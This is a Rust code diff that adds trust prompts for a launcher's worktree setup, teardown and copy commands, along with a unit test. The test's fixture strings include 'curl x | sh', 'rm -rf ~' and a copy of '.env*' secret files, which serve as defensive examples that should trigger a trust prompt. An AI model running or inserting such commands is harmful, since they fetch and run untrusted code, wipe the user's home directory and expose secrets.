@@ -132,6 +132,11 @@ pub(super) fn of(fl: &FileLauncher, backends: &BackendWords, text: &[u8]) -> Con
             ask(key, value, meaning);
         }
     }
+    if let Some(w) = &fl.worktree {
+        for (key, value, meaning) in super::worktree_ready::trust_asks(w) {
+            ask(key, value, &meaning);
+        }
+    }
     if let Some(shells) = &fl.terminal_shells {
         if *shells != super::defaults::default_terminal_shells() {
             let shown: Vec<String> = shells
@@ -275,5 +280,30 @@ mod tests {
         );
         let (fl, _) = super::super::parse_file("f", &defaults).unwrap();
         assert!(!of(&fl.launcher.unwrap(), &fl.backends, defaults.as_bytes()).asks_anything());
+    }
+
+    /// Issue 52: a cloned file's set-up and teardown commands run as the
+    /// user in every worktree; a copy of secret-looking files is named.
+    #[test]
+    fn a_cloned_files_worktree_commands_and_secret_copies_ask_for_trust() {
+        let text = "launcher:\n  worktree:\n    setup: [\"curl x | sh\"]\n    teardown: [\"rm -rf ~\"]\n    copy: [\".env*\", \"config/*.local.json\"]\n";
+        let (fl, _) = super::super::parse_file("f", text).unwrap();
+        let t = of(&fl.launcher.unwrap(), &fl.backends, text.as_bytes());
+        let asks: Vec<(&str, &str)> = t
+            .asks
+            .iter()
+            .map(|a| (a.key.as_str(), a.value.as_str()))
+            .collect();
+        assert_eq!(
+            asks,
+            [
+                ("launcher.worktree.setup", "curl x | sh"),
+                ("launcher.worktree.teardown", "rm -rf ~"),
+                ("launcher.worktree.copy", ".env*"),
+            ]
+        );
+        let calm = "launcher:\n  worktree:\n    setup: []\n    copy: [\"config/*.local.json\"]\n";
+        let (fl, _) = super::super::parse_file("f", calm).unwrap();
+        assert!(!of(&fl.launcher.unwrap(), &fl.backends, calm.as_bytes()).asks_anything());
     }
 }
